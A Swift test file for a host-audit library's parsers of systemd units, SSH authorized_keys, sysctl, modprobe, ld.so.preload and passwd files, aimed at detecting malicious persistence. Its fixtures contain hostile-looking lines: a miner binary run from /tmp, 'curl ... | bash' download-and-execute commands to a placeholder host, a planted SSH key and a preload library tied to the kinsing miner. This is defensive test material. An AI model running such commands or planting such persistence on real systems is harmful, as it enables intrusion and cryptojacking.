import HostAuditCore
import Testing

@Suite struct SystemdUnitParserTests {
    @Test func continuationLinesAndComments() {
        let text = """
            [Unit]
            Description=Start daemon \\
              at boot time
            ; a comment
            [Service]
            ExecStartPre=-/bin/mkdir -p \\
            # comment inside a continuation is skipped
              /run/x
            ExecStart = /tmp/.ICE/kdevtmpfsi --config=/tmp/.ICE/c.json
            ExecStartPost=@/usr/bin/env env-argv0 curl -s http://x/a ; /bin/true "a ; b"
            Restart=always
            [Install]
            WantedBy=multi-user.target
            """
        let u = UnitFileParser.parse(text, path: "/etc/systemd/system/bot.service")
        #expect(u.problems.isEmpty, "\(u.problems)")
        #expect(u.value("Unit", "Description") == "Start daemon  at boot time")
        #expect(u.value("Service", "Restart") == "always")
        let execs = u.execs
        #expect(execs.map(\.key) == ["ExecStartPre", "ExecStart", "ExecStartPost", "ExecStartPost"])
        #expect(execs[0].prefixes == "-" && execs[0].program == "/bin/mkdir" && execs[0].line == 6)
        #expect(execs[0].commandLine == "/bin/mkdir -p  /run/x")
        #expect(execs[0].programLocation == "system" && execs[0].indicators.isEmpty)
        #expect(execs[1].program == "/tmp/.ICE/kdevtmpfsi")
        #expect(execs[1].programLocation == "temp")
        #expect(execs[1].indicators.first?.indicator == "exec-from-temp")
        #expect(execs[1].line == 9)
        #expect(execs[2].prefixes == "@")
        #expect(execs[3].commandLine == "/bin/true \"a ; b\"")
    }

    @Test func emptyAssignmentResetsInDropIn() {
        let u = UnitFileParser.parse(
            "[Service]\nExecStart=/usr/sbin/sshd -D\nExecStart=\nExecStart=/bin/bash -c 'curl -fsSL http://x/i.sh | bash'\n",
            path: "/etc/systemd/system/ssh.service.d/override.conf")
        #expect(u.execs.count == 1)
        #expect(u.execs[0].program == "/bin/bash")
        #expect(u.execs[0].indicators.map(\.indicator) == ["download-pipe-shell"])
    }

    @Test func locationsAndProblems() {
        let u = UnitFileParser.parse(
            "ExecStart=/x\n[Service]\nExecStart=/home/u/.local/bin/agent\nExecStop=kill-it\nExecReload=/etc/rc.local\nbroken line\n[Bad\n",
            path: "/x.service")
        #expect(u.execs.map(\.programLocation) == ["other", "dot-dir", "relative", "other"])
        #expect(u.execs[1].indicators.map(\.indicator) == ["exec-from-dot-dir"])
        #expect(u.problems.map(\.line) == [1, 6, 7])
    }

    @Test func fileEndingInsideContinuation() {
        let u = UnitFileParser.parse("[Service]\nExecStart=/bin/a \\", path: "/x.service")
        #expect(u.execs.first?.program == "/bin/a")
        #expect(u.problems.count == 1)
    }
}

@Suite struct AuthorizedKeysParserTests {
    static let ed = "AAAAC3NzaC1lZDI1NTE5AAAAIJBx5Im8SWTpCn7AzmHD7yCFMhfgwgYa/1eh94NntKh/"
    static let rsa =
        "AAAAB3NzaC1yc2EAAAADAQABAAABgQCp0ZVm2gYT8G+9EREYexWMtxW5FxVi6V2LJyg+mtnXlOpLXybqLiP+G2CoiYLIn0jcP4LZVX86SvK26ONv3Ilzui13hhiFJ0yCrEPAgUFqQmD9xEHXOXDFmLhPYyq1HnEsTGKNpApE2ndZOXG3H18mxzrdeTWbl/D1GU1g9mZPn2SLxXRjh35Rc6j8wWKIepjj16/1/tTM6oW9mcDXt8TAugdUIKDvMWnj+jpl+xZpxmy6WiQH01ugo53FY/C5C05teRq0TeZYGSk8dsX5ctDyM1Yqwo789lSmVWyAdJDd65rbOcJvj2X7xGuEE8/chueD3yaEDRX9VeZndgoyLWkUlh+koR9QYvF/iZyrOC+tveCp4DMEteuWl551ENsgWcYCqpnoiz/OJBoAnnfgxWOkCYVQ4rKYdUH2+JksDeqplhq14b8cjgS5tzK2zWUZhHO/MzfkCAoKU2xuY/Ov8TUUgB46H27JK3PNChAyTFNWXBWOyd8x+pmPhgRo+5lLWR0="

    @Test func fingerprintsMatchSshKeygen() {
        let text = "# keys\nssh-ed25519 \(Self.ed) admin@example\n\n  ssh-rsa \(Self.rsa) planted\n"
        let k = AuthorizedKeysParser.parse(text, path: "/root/.ssh/authorized_keys")
        #expect(k.problems.isEmpty)
        #expect(k.keys.map(\.line) == [2, 4])
        // `ssh-keygen -lf` output for these keys.
        #expect(k.keys[0].fingerprint == "SHA256:2rZiQKYiwH26UBNs0w+IRY2Vz6DzyZxr7/wdc7Zq67w")
        #expect(k.keys[1].fingerprint == "SHA256:Nb4yipWizohq2esFuw6IcOwMUgkT1IDytHEp5TapZ5M")
        #expect(k.keys.map(\.bits) == [256, 3072])
        #expect(k.keys.map(\.comment) == ["admin@example", "planted"])
        #expect(k.keys.allSatisfy { $0.options.isEmpty && $0.blobType == nil })
    }

    @Test func optionsWithQuotedCommasSpacesAndEscapedQuotes() throws {
        let line =
            #"from="10.0.0.1,192.0.2.0/24",command="/usr/bin/rrsync -ro \"/srv/a b\",x",no-pty,environment="A=1" ssh-ed25519 "#
            + Self.ed + " backup key"
        let k = AuthorizedKeysParser.parse(line, path: "/home/b/.ssh/authorized_keys")
        let key = try #require(k.keys.first)
        #expect(key.options.map(\.name) == ["from", "command", "no-pty", "environment"])
        #expect(key.options[0].value == "10.0.0.1,192.0.2.0/24")
        #expect(key.options[1].value == #"/usr/bin/rrsync -ro "/srv/a b",x"#)
        #expect(key.options[2].value == nil)
        #expect(key.option("COMMAND") == .some(#"/usr/bin/rrsync -ro "/srv/a b",x"#))
        #expect(key.comment == "backup key")
        #expect(key.fingerprint == "SHA256:2rZiQKYiwH26UBNs0w+IRY2Vz6DzyZxr7/wdc7Zq67w")
    }

    @Test func brokenLinesAreProblems() {
        let text = """
            command="x ssh-ed25519 \(Self.ed)
            no-pty
            ssh-ed25519
            ssh-rsa \(Self.ed) wrong-type
            ssh-ed25519 !!notbase64!! c
            """
        let k = AuthorizedKeysParser.parse(text, path: "/a")
        #expect(k.problems.map(\.line) == [1, 2, 3])
        #expect(k.keys.count == 2)
        #expect(k.keys[0].blobType == "ssh-ed25519")
        #expect(k.keys[1].fingerprint == nil)
    }
}

@Suite struct PersistenceConfigParserTests {
    @Test func sysctl() {
        let r = SysctlConfParser.parse(
            Array("# c\n; c\nvm.nr_hugepages = 1280\n-kernel/nmi_watchdog=0\nnet.ipv4.conf.eth0/1.rp_filter=1\ngarbage\n".utf8),
            path: "/etc/sysctl.d/x.conf")
        #expect(r.assignments.map(\.key) == ["vm.nr_hugepages", "kernel.nmi_watchdog", "net.ipv4.conf.eth0/1.rp_filter"])
        #expect(r.assignments.map(\.value) == ["1280", "0", "1"])
        #expect(r.assignments.map(\.line) == [3, 4, 5])
        #expect(r.assignments[1].ignoreFailure)
        #expect(r.problems.map(\.line) == [6])
    }

    @Test func modprobe() {
        let r = ModprobeConfParser.parse(
            Array("# x\noptions msr allow_writes=on\ninstall msr /sbin/modprobe --ignore-install \\\n msr allow_writes=on\nblacklist pcspkr\nfrobnicate x\noptions snd-hda-intel model=\"a b\"\n".utf8),
            path: "/etc/modprobe.d/msr.conf")
        #expect(r.directives.map(\.directive) == ["options", "install", "blacklist", "options"])
        #expect(r.directives.map(\.line) == [2, 3, 5, 7])
        #expect(r.directives[1].arguments.contains("allow_writes=on"))
        #expect(r.directives[3].module == "snd_hda_intel")
        #expect(ModprobeConfParser.parameters(r.directives[0].arguments).map(\.value) == ["on"])
        #expect(ModprobeConfParser.parameters(r.directives[3].arguments).first?.value == "a b")
        #expect(r.problems.map(\.line) == [6])
    }

    @Test func modulesLoadAndPreloadAndPasswd() {
        #expect(ModulesLoadParser.parse(Array("# c\nmsr\n; x\nnf-conntrack\n".utf8)).map(\.module) == ["msr", "nf_conntrack"])
        let p = LdSoPreloadParser.parse(Array("/etc/libsystem.so # kinsing\n# all comment\n/a.so:/b.so\t/c.so\n".utf8))
        #expect(p.map(\.library) == ["/etc/libsystem.so", "/a.so", "/b.so", "/c.so"])
        #expect(p.map(\.line) == [1, 3, 3, 3])
        let users = PasswdParser.parse(Array("root:x:0:0:root:/root:/bin/bash\n+nis::::::\nbad\nbob:x:1000:1000::/home/bob:/bin/sh\n".utf8))
        #expect(users.map(\.name) == ["root", "bob"])
        #expect(users.map(\.home) == ["/root", "/home/bob"])
        #expect(users.map(\.uid) == [0, 1000])
    }
}
